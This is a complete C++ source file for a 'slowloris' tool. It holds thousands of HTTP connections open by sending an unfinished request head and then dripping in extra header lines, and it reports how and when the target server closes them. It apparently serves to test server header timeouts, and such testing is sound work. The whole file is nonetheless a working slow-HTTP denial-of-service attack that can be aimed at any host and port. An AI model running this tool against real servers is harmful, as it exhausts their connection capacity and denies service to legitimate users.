// slowloris: holds many connections that never finish their request head, and reports how the
// server ends them.
//
//   slowloris [-n CONNS] [-i INTERVAL_S] [-w WAIT_S] HOST:PORT
//
// Each connection sends "GET / HTTP/1.1\r\nHost: x\r\n", then one more header line every
// INTERVAL_S seconds, and never the blank line that ends the head. The tool stops once every held
// connection was closed by the server, or WAIT_S seconds after it started.
//
// Output, one line each, for a script to read:
//   ready     t=SECONDS held=N failed=N                      (every connect has succeeded or failed)
//   progress  t=SECONDS open=N closed=N failed=N             (once a second)
//   summary   held=N closed=N still_open=N failed=N answered=N
//             closed_min=S closed_p50=S closed_max=S ramp=S
// closed_* is each closed connection's age when the server closed it, counted from the moment its
// first bytes were sent; answered counts connections that got any bytes (a 408, say) before the
// close; ramp is how long it took until every connect had been tried.

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

enum class State { unused, connecting, open, closed, failed };

struct Conn {
  int fd = -1;
  State state = State::unused;
  double started = 0;  // when connect() was called
  double sent_at = 0;  // when the first bytes went out
  double closed_at = 0;
  bool answered = false;
};

double now_s() {
  using namespace std::chrono;
  static const auto t0 = steady_clock::now();
  return duration<double>(steady_clock::now() - t0).count();
}

[[noreturn]] void usage() {
  std::fprintf(stderr, "usage: slowloris [-n CONNS] [-i INTERVAL_S] [-w WAIT_S] HOST:PORT\n");
  std::exit(2);
}

bool send_all(int fd, const char* data, size_t len) {
  // The lines are tiny and the socket buffer empty, so a partial send means the peer is gone.
  ssize_t n = send(fd, data, len, MSG_NOSIGNAL);
  return n == static_cast<ssize_t>(len);
}

double percentile(std::vector<double> v, double p) {
  if (v.empty()) return 0;
  std::sort(v.begin(), v.end());
  size_t i = static_cast<size_t>(p * static_cast<double>(v.size() - 1) + 0.5);
  return v[std::min(i, v.size() - 1)];
}

}  // namespace

int main(int argc, char** argv) {
  int conns = 3000;
  double interval = 3;
  double wait_s = 20;
  int opt;
  while ((opt = getopt(argc, argv, "n:i:w:")) != -1) {
    switch (opt) {
      case 'n': conns = std::atoi(optarg); break;
      case 'i': interval = std::atof(optarg); break;
      case 'w': wait_s = std::atof(optarg); break;
      default: usage();
    }
  }
  if (optind + 1 != argc || conns <= 0 || interval <= 0 || wait_s <= 0) usage();

  std::string target = argv[optind];
  size_t colon = target.rfind(':');
  if (colon == std::string::npos) usage();
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(std::atoi(target.c_str() + colon + 1)));
  if (inet_pton(AF_INET, target.substr(0, colon).c_str(), &addr.sin_addr) != 1) usage();

  rlimit rl{};
  getrlimit(RLIMIT_NOFILE, &rl);
  rl.rlim_cur = rl.rlim_max;
  setrlimit(RLIMIT_NOFILE, &rl);
  if (rl.rlim_cur < static_cast<rlim_t>(conns) + 16) {
    std::fprintf(stderr, "slowloris: open files limit %llu is too low for %d connections\n",
                 static_cast<unsigned long long>(rl.rlim_cur), conns);
    return 1;
  }

  int ep = epoll_create1(0);
  if (ep < 0) {
    std::perror("epoll_create1");
    return 1;
  }

  static const char head[] = "GET / HTTP/1.1\r\nHost: x\r\n";
  static const char more[] = "X-a: b\r\n";
  // Opening a few at a time keeps the server's accept backlog from overflowing, which would turn
  // the ramp into SYN retries measured in seconds.
  const int batch = 100;
  const double batch_every = 0.01;
  const double connect_timeout = 5;

  std::vector<Conn> cs(static_cast<size_t>(conns));
  int next = 0, open = 0, closed = 0, failed = 0, pending = 0;
  double ramp = -1, next_batch = 0, next_drip = interval, next_progress = 1;

  auto finish = [&](Conn& c, State s) {
    epoll_ctl(ep, EPOLL_CTL_DEL, c.fd, nullptr);
    close(c.fd);
    c.fd = -1;
    if (c.state == State::connecting) --pending;
    if (c.state == State::open) --open;
    c.state = s;
    if (s == State::closed) {
      ++closed;
      c.closed_at = now_s();
    } else {
      ++failed;
    }
  };

  std::vector<epoll_event> events(1024);
  for (;;) {
    double t = now_s();

    while (next < conns && t >= next_batch) {
      for (int k = 0; k < batch && next < conns; ++k, ++next) {
        Conn& c = cs[static_cast<size_t>(next)];
        c.started = t;
        c.fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (c.fd < 0) {
          c.state = State::failed;
          ++failed;
          continue;
        }
        int r = connect(c.fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr);
        if (r < 0 && errno != EINPROGRESS) {
          close(c.fd);
          c.fd = -1;
          c.state = State::failed;
          ++failed;
          continue;
        }
        c.state = State::connecting;
        ++pending;
        epoll_event ev{};
        ev.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP;
        ev.data.u32 = static_cast<uint32_t>(next);
        epoll_ctl(ep, EPOLL_CTL_ADD, c.fd, &ev);
      }
      next_batch += batch_every;
    }

    if (next == conns && pending > 0) {
      for (auto& c : cs) {
        if (c.state == State::connecting && t - c.started > connect_timeout) finish(c, State::failed);
      }
    }
    if (ramp < 0 && next == conns && pending == 0) {
      ramp = t;
      std::printf("ready t=%.2f held=%d failed=%d\n", t, open + closed, failed);
      std::fflush(stdout);
    }

    if (t >= next_drip) {
      for (auto& c : cs) {
        if (c.state == State::open && !send_all(c.fd, more, sizeof more - 1)) finish(c, State::closed);
      }
      next_drip += interval;
    }
    if (t >= next_progress) {
      std::printf("progress t=%.1f open=%d closed=%d failed=%d\n", t, open, closed, failed);
      std::fflush(stdout);
      next_progress += 1;
    }

    if (ramp >= 0 && open == 0) break;
    if (t >= wait_s) break;

    int n = epoll_wait(ep, events.data(), static_cast<int>(events.size()), 10);
    for (int i = 0; i < n; ++i) {
      Conn& c = cs[events[static_cast<size_t>(i)].data.u32];
      uint32_t e = events[static_cast<size_t>(i)].events;
      if (c.state == State::connecting) {
        int err = 0;
        socklen_t len = sizeof err;
        getsockopt(c.fd, SOL_SOCKET, SO_ERROR, &err, &len);
        if (err != 0) {
          finish(c, State::failed);
          continue;
        }
        if (!(e & EPOLLOUT)) continue;
        --pending;
        c.state = State::open;
        ++open;
        c.sent_at = now_s();
        if (!send_all(c.fd, head, sizeof head - 1)) {
          finish(c, State::closed);
          continue;
        }
        epoll_event ev{};
        ev.events = EPOLLIN | EPOLLRDHUP;
        ev.data.u32 = events[static_cast<size_t>(i)].data.u32;
        epoll_ctl(ep, EPOLL_CTL_MOD, c.fd, &ev);
        continue;
      }
      if (c.state != State::open) continue;
      // Drain whatever the server says (an error page, typically) until it closes.
      char buf[4096];
      for (;;) {
        ssize_t r = recv(c.fd, buf, sizeof buf, 0);
        if (r > 0) {
          c.answered = true;
          continue;
        }
        if (r == 0 || (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)) {
          finish(c, State::closed);
        }
        break;
      }
    }
  }

  std::vector<double> ages;
  int answered = 0;
  for (auto& c : cs) {
    if (c.state == State::closed) {
      ages.push_back(c.closed_at - c.sent_at);
      if (c.answered) ++answered;
    }
  }
  if (ramp < 0) ramp = now_s();
  std::printf(
      "summary held=%d closed=%d still_open=%d failed=%d answered=%d closed_min=%.2f "
      "closed_p50=%.2f closed_max=%.2f ramp=%.2f\n",
      open + closed, closed, open, failed, answered, ages.empty() ? 0 : percentile(ages, 0),
      percentile(ages, 0.5), ages.empty() ? 0 : percentile(ages, 1), ramp);
  return 0;
}
